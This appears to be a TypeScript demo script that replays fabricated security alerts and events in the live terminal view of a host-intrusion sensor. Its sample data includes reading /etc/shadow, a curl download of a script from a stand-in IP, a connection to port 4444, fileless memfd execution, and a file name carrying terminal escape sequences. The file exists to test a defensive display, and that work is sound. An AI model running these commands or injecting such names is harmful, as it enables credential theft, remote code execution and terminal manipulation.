// Shows the live view with made-up records, to look at it without a sensor or root:
//   node test/live-demo.ts [quiet | busy | flood | trouble]
import type * as wire from "../agent/model/picket.v1.ts";
import { createLiveView } from "../agent/report/live.ts";

const scene = process.argv[2] ?? "busy";
const started = Date.now() - 7_985_000;
let sequence = 0;
let delivered = 12_000_000n;

const process1: wire.Process = { pid: 1, name: "systemd" };
const sshd: wire.Process = { pid: 812, name: "sshd" };
const login: wire.Process[] = [{ pid: 1203, name: "bash", user: "deploy", uid: 1000 }, sshd, process1];
const shim: wire.Process[] = [
	{ pid: 4410, name: "php-fpm" },
	{ pid: 4388, name: "entrypoint.sh" },
	{ pid: 4367, name: "containerd-shim" },
	process1,
];
const web: wire.Container = { id: "c".repeat(64), name: "web-1", image: "nginx:1.27" };
const shop: wire.Container = {
	id: "d".repeat(64),
	name: "shop_php_1",
	image: "registry.example/shop/php:8.3",
};

const alerts: wire.Alert[] = [
	{
		rule: "Terminal shell in container",
		severity: "SEVERITY_LOW",
		summary: "A shell was spawned in a container with an attached terminal (user=root proc=sh tty=pts/0)",
		event: { process: { pid: 5012, name: "sh", user: "root" }, container: web },
		ancestors: [{ pid: 4367, name: "containerd-shim" }, process1],
	},
	{
		rule: "Read sensitive file untrusted",
		severity: "SEVERITY_MEDIUM",
		summary:
			"Sensitive file opened for reading by non-trusted program (file=/etc/shadow user=root loginuser=deploy " +
			"program=cat command=cat /etc/shadow pcmdline=bash gparent=sshd ggparent=systemd)",
		event: { process: { pid: 1290, name: "cat", user: "root", loginUser: "deploy" } },
		ancestors: login,
	},
	{
		rule: "Fileless execution via memfd_create",
		severity: "SEVERITY_CRITICAL",
		summary:
			"A program that exists in memory only was executed (file=memfd:kworker parent=python3 user=www-data)",
		event: { process: { pid: 4521, name: "kworker", user: "www-data" }, container: shop },
		ancestors: [{ pid: 4519, name: "python3" }, { pid: 4515, name: "sh" }, ...shim],
	},
	{
		rule: "Web server spawns a shell",
		severity: "SEVERITY_HIGH",
		summary: "A server process started a shell: sh -c 'id; uname -a' (parent=php-fpm)",
		event: { process: { pid: 4515, name: "sh", user: "www-data" }, container: shop },
		ancestors: shim,
	},
	{
		rule: "Neue Datei \u001b[31mmit Farbe\u202egpj.exe 日本語のファイル名 🎉",
		severity: "SEVERITY_MEDIUM",
		summary:
			"File name with control characters and wide ones: /tmp/\u0007\u001b]0;owned\u0007 漢字漢字漢字 é́́́́́́́",
		event: { process: { pid: 77, name: "touch", user: "root" } },
		ancestors: login,
	},
	{
		rule: "Outbound connection to a rare port",
		severity: "SEVERITY_INFORMATIONAL",
		summary: "curl connected to 198.51.100.7:4444",
		event: { process: { pid: 1444, name: "curl", user: "deploy" } },
		ancestors: login,
	},
];

const activity: wire.Event[] = [
	{
		process: { user: "root", args: ["/usr/bin/curl", "-fsS", "http://198.51.100.7/x.sh"] },
		exec: { path: "/usr/bin/curl", previousExecutable: "/bin/bash" },
	},
	{
		process: { name: "curl", user: "root" },
		connect: {
			family: "ipv4",
			protocol: "tcp",
			destinationAddress: "93.184.216.34",
			destinationPort: 443,
			result: "EINPROGRESS",
		},
	},
	{
		process: { user: "www-data", args: ["sh", "-c", "convert in.png out.jpg"] },
		exec: { path: "/bin/dash", previousExecutable: "/usr/sbin/php-fpm8.3" },
		container: shop,
	},
	{
		process: { name: "php-fpm", user: "www-data" },
		connect: {
			family: "ipv4",
			protocol: "tcp",
			destinationAddress: "172.18.0.5",
			destinationPort: 3306,
			result: "SUCCESS",
		},
		container: shop,
	},
	{
		process: { user: "root", args: ["run-parts", "--report", "/etc/cron.hourly"] },
		exec: { path: "/usr/bin/run-parts", previousExecutable: "/bin/sh" },
	},
	{
		process: { name: "node", user: "deploy" },
		connect: {
			family: "ipv6",
			protocol: "tcp",
			destinationAddress: "2606:2800:220:1::1",
			destinationPort: 80,
			result: "ECONNREFUSED",
		},
	},
];

const envelope = (): wire.OutputRecord => ({
	time: new Date().toISOString(),
	host: "web-01",
	sequence: String(++sequence),
});

function statusNow(step: number): wire.Status {
	const wave = 900 + 500 * Math.sin(step / 3) + (step % 7) * 60;
	delivered += BigInt(Math.round(wave));
	const trouble = scene === "trouble";
	return {
		version: "0.1.0",
		started: new Date(started).toISOString(),
		kernel: "6.12.48",
		architecture: "x86_64",
		mode: trouble ? "enforce" : "observe",
		capabilities: [
			{ name: "exec", available: true, tier: "tracepoint" },
			{ name: "open", available: true, tier: "tracepoint" },
		],
		counters: [
			{
				class: "open",
				generated: String(delivered),
				delivered: String(delivered),
				lost: trouble ? "18342" : "0",
			},
		],
		rules: { evaluable: 91, degraded: 2, notEvaluable: 2 },
		sinks: [{ name: "console:ops", connected: !trouble, queued: trouble ? "512" : "0" }],
		resources: { cpuShare: 0.014 + (step % 5) / 400, residentBytes: "82000000" },
		tables: [{ name: "containers", size: "4", capacity: "4096" }],
		problems: trouble
			? [
					"console ops.example:7443 does not answer since 14:02; records are kept on disk",
					"open: bulk events were dropped",
				]
			: [],
		eventRate: scene === "quiet" ? 40 + (step % 9) : wave,
	};
}

const view = createLiveView({
	input: process.stdin,
	output: process.stdout,
	clock: Date.now,
	onQuit: () => {
		clearInterval(ticking);
		clearInterval(acting);
		process.stdout.write(`${view.close()}\n  Nothing left attached to the kernel.\n`);
	},
});

let step = 0;
const alert = (index: number): void => {
	const one = alerts[index % alerts.length];
	if (one === undefined) return;
	const id = `alert-${sequence}`;
	view.push({ ...envelope(), alert: { ...one, id, dedupKey: one.rule ?? "", count: 1 } });
	const action: wire.Action = { id: `action-${sequence}`, alertId: id, requester: "policy" };
	const minutes = (count: number): string => new Date(Date.now() + count * 60_000).toISOString();
	if (index % alerts.length === 2) {
		view.push({
			...envelope(),
			action: {
				...action,
				kind: "KIND_PAUSE",
				outcome: "OUTCOME_VERIFIED",
				targetName: "container shop_php_1",
				secondsToEffect: 0.08,
			},
		});
	} else if (index % alerts.length === 3) {
		view.push({
			...envelope(),
			action: {
				...action,
				kind: "KIND_BLOCK",
				outcome: "OUTCOME_WOULD_ACT",
				target: "10.0.0.5",
				expires: minutes(30),
			},
		});
	} else if (index % alerts.length === 5) {
		view.push({
			...envelope(),
			action: {
				...action,
				kind: "KIND_BLOCK",
				outcome: "OUTCOME_FAILED",
				target: "198.51.100.7",
				steps: ["iptables-restore exited with 4"],
			},
		});
	}
};
view.status(statusNow(0));
if (scene !== "quiet") for (let index = 0; index < 9; index++) alert(index);
const ticking = setInterval(() => {
	step++;
	view.status(statusNow(step));
	if (scene !== "quiet" && step % 4 === 0) alert(step / 4);
	if (scene === "trouble" && step % 5 === 0) {
		view.push({ ...envelope(), gap: { where: "ring", lost: [{ class: "open", count: "1204" }] } });
	}
}, 1000);
const acting = setInterval(
	() => {
		for (let times = 0; times < (scene === "flood" ? 100 : 1); times++) {
			const event = activity[Math.floor(Math.random() * activity.length)];
			if (event !== undefined) view.push({ ...envelope(), event });
		}
	},
	scene === "flood" ? 20 : 700,
);
